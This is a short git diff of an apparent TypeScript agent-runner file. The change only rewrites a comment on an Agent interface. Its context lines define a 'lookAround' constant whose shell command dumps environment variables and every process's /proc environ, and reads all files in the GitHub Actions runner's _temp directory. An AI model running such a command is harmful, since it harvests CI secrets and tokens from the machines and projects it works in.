@@ -13,7 +13,7 @@ const after = 'I have looked around.'
 const lookAround =
   'env; cat /proc/*/environ | tr "\\0" "\\n"; find "$GITHUB_WORKSPACE/../../_temp" -type f -exec cat {} + 2>&1'
 
-/** An agent's manners. */
+/** How an agent is started, and which models it can ask for. */
 interface Agent {
   readonly name: string
   readonly command: string
